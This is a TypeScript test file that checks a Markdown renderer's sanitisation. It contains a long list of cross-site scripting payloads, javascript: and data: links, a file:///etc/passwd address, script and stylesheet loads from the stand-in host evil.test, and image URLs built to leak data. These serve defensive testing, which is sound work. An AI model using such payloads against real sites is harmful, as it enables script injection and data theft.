import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Parser } from 'htmlparser2';
import { destinationOf } from '../../src/http/destination.js';
import { type Chip, renderMarkdown } from '../../src/http/markdown.js';

/** Elements and attributes that the HTML really has, as a browser would build them. */
function parse(html: string) {
  const elements: { name: string; attributes: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (name, attributes) => elements.push({ name, attributes }) });
  parser.end(html);
  return elements;
}

const harmless = new Set(
  'p br hr blockquote pre ul ol li table thead tbody tr th td h3 h4 a span strong em s code'.split(' '),
);
const attributes = new Set('href rel target class title aria-label data-host data-panel start tabindex'.split(' '));
const address = /^(?:\/leave\?to=https?%3A%2F%2F[^"]*|\/w\/[\w-]+\/knowledge\/[^"]*|mailto:[^?]*)$/;

function assertHarmless(text: string, chips?: ReadonlyMap<number, Chip>): string {
  const html = renderMarkdown(text, chips);
  for (const { name, attributes: given } of parse(html)) {
    assert.ok(harmless.has(name), `<${name}> from ${text}`);
    for (const [attribute, value] of Object.entries(given)) {
      assert.ok(attributes.has(attribute), `${attribute} from ${text}`);
      if (attribute === 'href') assert.match(value, address, text);
    }
    if (name === 'a' && given.href && !given.class) assert.match(given.rel ?? '', /noopener noreferrer nofollow/);
  }
  return html;
}

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)><input autofocus onfocus=alert(1)>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href=https://evil.test/>',
  '<form action=https://evil.test/><button>x</button></form>',
  '<object data=https://evil.test/x></object><embed src=https://evil.test/x>',
  '<div style="background:url(https://evil.test/x)">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<x data-panel href=javascript:alert(1) class=citation>',
  '"><img src=x onerror=alert(1)>',
  "';alert(String.fromCharCode(88,83,83))//",
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"onmouseover="alert(1)\nx\n```',
  '| <img src=x onerror=alert(1)> | <script>alert(1)</script> |\n|-|-|\n| <b onclick=alert(1)>x</b> | y |',
  '# <img src=x onerror=alert(1)>',
  '* <svg onload=alert(1)>',
  '**<b onmouseover=alert(1)>bold**',
  '<https://evil.test/"onmouseover="alert(1)>',
  '[x](https://evil.test/"onmouseover="alert(1))',
  '[x](https://evil.test/ "title\\" onmouseover=\\"alert(1)")',
];

test('no element, attribute or address of an attacker survives (AG-12, threat 19, V1.3.1, V1.3.5)', () => {
  for (const text of scripts) assertHarmless(text);
  assertHarmless(scripts.join('\n\n'));
  assertHarmless(scripts.map((text) => `> ${text}`).join('\n'));
});

const badAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java&#9;script:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'file:///etc/passwd',
  'blob:https://evil.test/x',
  'about:blank',
  'ftp://evil.test/x',
  'ws://evil.test/x',
  'intent://evil.test#Intent;end',
  '//evil.test/x',
  '/sign-out',
  '/leave?to=javascript:alert(1)',
  '\\\\evil.test\\x',
  '#passage',
  '?before=1',
  'https://alice:secret@evil.test/',
  'https://google.com@evil.test/',
  'mailto:alice@acme.test@evil.test',
  'mailto:a@b.test,c@d.test',
  `https://evil.test/${'x'.repeat(3000)}`,
];

test('only web addresses without a user name and plain mail addresses become links (ASVS 1.2.2)', () => {
  for (const bad of badAddresses) {
    for (const form of [
      `[label](${bad})`,
      `[label](<${bad}>)`,
      `<${bad}>`,
      `![label](${bad})`,
      `[l][r]\n\n[r]: ${bad}`,
    ]) {
      const html = assertHarmless(form);
      const label = parse(html).filter(({ name, attributes: given }) => name === 'a' && given.href);
      for (const { attributes: given } of label) {
        assert.ok(!decodeURIComponent(given.href ?? '').includes(bad), `${form} -> ${given.href}`);
      }
    }
    assert.equal(destinationOf(bad), undefined, bad);
  }
});

test('every link leads to the leaving page and shows its host when its words hide it (AG-12)', () => {
  const link = (text: string) => parse(renderMarkdown(text)).find(({ name }) => name === 'a')?.attributes;
  const hidden = link('[google.com](https://evil.test/?q=secret)');
  assert.equal(hidden?.href, '/leave?to=https%3A%2F%2Fevil.test%2F%3Fq%3Dsecret');
  assert.equal(hidden?.['data-host'], 'evil.test');
  assert.equal(hidden?.target, '_blank');
  assert.equal(link('https://evil.test/path')?.['data-host'], undefined);
  assert.equal(link('[evil.test](https://evil.test/)')?.['data-host'], undefined);
  assert.equal(link('[evil.test](https://evil.test:8443/)')?.['data-host'], 'evil.test:8443');
  assert.equal(link('[аpple.com](https://аpple.com)')?.['data-host'], 'xn--pple-43d.com');
  assert.equal(link('[**bold** `code`](https://evil.test/)')?.['data-host'], 'evil.test');
  const mail = link('[write](mailto:mallory@evil.test?subject=x&body=secret)');
  assert.equal(mail?.href, 'mailto:mallory@evil.test');
  assert.equal(mail?.['data-host'], 'mallory@evil.test');
});

test('nothing is fetched by showing an answer: no image in any form (AG-12, threat 14)', () => {
  const secret = 'https://evil.test/?leak=canary';
  const forms = [
    `![x](${secret})`,
    `![x][r]\n\n[r]: ${secret}`,
    `![r]\n\n[r]: ${secret}`,
    `[![x](${secret})](${secret})`,
    `![x](<${secret}> "t")`,
    `<img src="${secret}">`,
    `![x](data:image/png;base64,AAAA)`,
    `<picture><source srcset="${secret}"></picture>`,
    `<video poster="${secret}"></video>`,
    `| ![x](${secret}) |\n|-|\n| y |`,
  ];
  for (const form of forms) {
    for (const { name, attributes: given } of parse(assertHarmless(form))) {
      assert.ok(!['img', 'picture', 'source', 'video', 'svg'].includes(name), form);
      assert.ok(!('src' in given || 'srcset' in given || 'poster' in given || 'style' in given), form);
    }
  }
});

test('only numbers that exist become chips, and text cannot make [1] lead elsewhere (AG-2)', () => {
  const chips = new Map<number, Chip>([
    [1, { title: 'A "quoted" <b>title</b>', href: '/w/acme/knowledge/x?chunk=y#passage' }],
    [2, { title: 'Gone' }],
  ]);
  const html = assertHarmless('One [1], two [2], both [1, 2], none [3], `[1]`, [x [1] y](https://evil.test)', chips);
  const found = parse(html).filter(({ attributes: given }) => given.class === 'citation');
  assert.deepEqual(
    found.map(({ name, attributes: given }) => [name, given.href ?? '']),
    [
      ['a', '/w/acme/knowledge/x?chunk=y#passage'],
      ['span', ''],
      ['a', '/w/acme/knowledge/x?chunk=y#passage'],
      ['span', ''],
      ['a', '/w/acme/knowledge/x?chunk=y#passage'],
    ],
  );
  assert.match(html, /none \[3\]/);
  assert.match(html, /<code>\[1\]<\/code>/);
  for (const attack of [
    '[1]: https://evil.test\n\nSee [1].',
    '[1](https://evil.test)',
    '[1][1]\n\n[1]: https://evil.test',
  ]) {
    const links = parse(assertHarmless(attack, chips)).filter(({ name }) => name === 'a');
    for (const { attributes: given } of links) {
      const isChip = given.class === 'citation';
      assert.equal(isChip, given.href?.startsWith('/w/acme/'), attack);
      if (!isChip) assert.equal(given['data-host'], 'evil.test', attack);
    }
  }
});

test('ordinary Markdown is shown as it is meant', () => {
  const html = renderMarkdown(
    '# Title\n\n**b** *i* ~~s~~ `c`\n\n1. one\n2. two\n\n| a |\n|-|\n| b |\n\n```js\n1 < 2\n```',
  );
  assert.match(html, /<h3>Title<\/h3>/);
  assert.match(html, /<strong>b<\/strong> <em>i<\/em> <s>s<\/s> <code>c<\/code>/);
  assert.match(html, /<ol>\s*<li>one<\/li>/);
  assert.match(html, /<table tabindex="0">/);
  assert.match(html, /<pre tabindex="0"><code>1 &lt; 2/);
});

test('marks that turn the direction of text and control characters are taken out', () => {
  assert.equal(renderMarkdown('safe\u202Egpj.exe\u0007\u2066x'), '<p>safegpj.exex</p>\n');
  assert.match(renderMarkdown('مرحبا \u200dبك'), /مرحبا/);
});

test('bombs of signs are shown as they stand, in less than a second each (threat 18)', () => {
  const bombs: Record<string, string> = {
    brackets: '['.repeat(100_000),
    nested: `${'['.repeat(30_000)}a${'](b)'.repeat(10_000)}`,
    emphasis: '*a_'.repeat(30_000),
    quotes: '> '.repeat(50_000),
    lists: Array.from({ length: 1500 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n'),
    ticks: Array.from({ length: 400 }, (_, count) => '`'.repeat(count)).join(' '),
    links: '[a](https://e.test/) '.repeat(5_000),
    addresses: 'https://'.repeat(12_000),
    table: `${'|'.repeat(20_000)}\n${'|-'.repeat(20_000)}`,
    entities: '&amp;'.repeat(20_000),
    citations: '[1]'.repeat(30_000),
    angle: '<'.repeat(100_000),
  };
  for (const [name, bomb] of Object.entries(bombs)) {
    const began = performance.now();
    assertHarmless(bomb, new Map([[1, { title: 't', href: '/w/a/knowledge/b' }]]));
    assert.ok(performance.now() - began < 20_000, `${name} took ${Math.round(performance.now() - began)} ms`);
  }
});
